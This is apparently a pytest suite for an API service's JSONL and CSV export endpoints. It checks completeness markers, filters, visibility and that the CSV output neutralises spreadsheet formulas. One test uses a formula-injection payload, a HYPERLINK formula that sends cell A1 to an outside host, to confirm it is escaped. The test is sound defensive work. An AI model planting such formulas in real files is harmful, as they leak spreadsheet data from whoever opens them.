"""An export is the list, whole, and says so; a table of it runs nothing."""

import csv
import io
import json
from typing import Any

import pytest

from test_findings import DOCUMENT
from test_ownership import sign_in
from wire import Wire

pytestmark = pytest.mark.slow


def lines(wire: Wire, path: str, query: str = "", *, by: str | None = None) -> list[dict[str, Any]]:
    """Return the rows of an export whose end says that they are all."""
    answer = wire.send("GET", f"{path}/jsonl?{query}", authorization=by)
    assert answer.status == 200, answer.content
    assert answer.content.endswith(b"\n")
    *rows, last = map(json.loads, answer.content.splitlines())
    assert last == {"end": {"is_complete": True, "count": len(rows), "problem": None}}
    return rows


def table(wire: Wire, path: str, query: str = "") -> list[dict[str, str]]:
    """Return the rows of a table, and hold it to RFC 4180."""
    answer = wire.send("GET", f"{path}/csv?{query}")
    text = answer.content.decode()
    assert answer.headers["content-disposition"].startswith('attachment; filename="deedbox-')
    assert text.endswith("\r\n")
    assert text.partition("\r\n")[0].replace(",", "").replace("_", "").isalnum()
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def listed(wire: Wire, path: str, query: str = "") -> list[dict[str, Any]]:
    """Return all items of a list by cursor."""
    items: list[dict[str, Any]] = []
    cursor: str | None = ""
    while cursor is not None:
        page = wire.send("GET", f"{path}?limit=200&cursor={cursor}&{query}").json()
        items += page["items"]
        cursor = page["next_cursor"]
    return items


@pytest.fixture
def version(wire: Wire) -> str:
    address = f"{wire.create()}/versions/1.0.0"
    assert wire.send_json("PUT", address, json.dumps(DOCUMENT)).status == 201
    return address


@pytest.mark.parametrize("what", ["operations", "findings"])
def test_what_a_version_has_is_exported_as_it_is_listed(wire: Wire, version: str, what: str) -> None:
    of = listed(wire, f"{version}/{what}")
    assert len(of) > 1
    assert lines(wire, f"{version}/{what}") == of
    positions = [int(row["position"]) for row in table(wire, f"{version}/{what}")]
    assert positions == [one["position"] for one in of]


def test_findings_are_narrowed_by_severity(wire: Wire, version: str) -> None:
    for severity in ("error", "warning", "info"):
        query = f"severity={severity}"
        assert lines(wire, f"{version}/findings", query) == listed(wire, f"{version}/findings", query)
    assert wire.send("GET", f"{version}/findings/csv?severity=worst").problem == "invalid"


def test_the_audit_is_narrowed_by_target(wire: Wire, version: str) -> None:
    target = version.removeprefix("/v1/")
    found = lines(wire, "/v1/audit/export", f"target={target}")
    assert found == listed(wire, "/v1/audit", f"target={target}")
    assert {one["target"] for one in found} == {target}


def test_events_are_those_of_an_api_for_whoever_may_know_of_it(wire: Wire, version: str) -> None:
    api = version.split("/")[3]
    found = lines(wire, "/v1/events/export", f"api={api}")
    assert found == listed(wire, "/v1/events", f"api={api}")
    assert {one["api"] for one in found} == {api}
    private = wire.free()
    new = {"name": private, "title": "T", "visibility": "private"}
    assert wire.send_json("POST", "/v1/apis", new).status == 201
    stranger = f"Bearer {sign_in(wire, f'{wire.free()}@example.com').token}"
    assert lines(wire, "/v1/events/export", f"api={private}")
    assert lines(wire, "/v1/events/export", f"api={private}", by=stranger) == []


def test_a_table_of_users_runs_nothing(wire: Wire) -> None:
    name = '=HYPERLINK("https://example.com/?"&A1;"click")'
    new = {"email": f"{wire.free()}@example.com", "name": name}
    assert wire.send_json("POST", "/v1/users", new).status == 201

    (row,) = table(wire, "/v1/users/export", f"email={new['email']}")

    assert row["name"] == f"'{name}"
    assert json.loads(row["roles"]) == ["developer"]
    assert row["last_seen_at"] == ""
    (line,) = lines(wire, "/v1/users/export", f"email={new['email']}")
    assert line["name"] == name


def test_no_form_but_the_two_is_written(wire: Wire, version: str) -> None:
    for path in ("/v1/users/export", "/v1/audit/export", "/v1/events/export", f"{version}/findings"):
        assert wire.send("GET", f"{path}/xlsx").problem == "invalid"
        assert wire.send("GET", f"{path}/csv?limit=1").problem == "invalid"
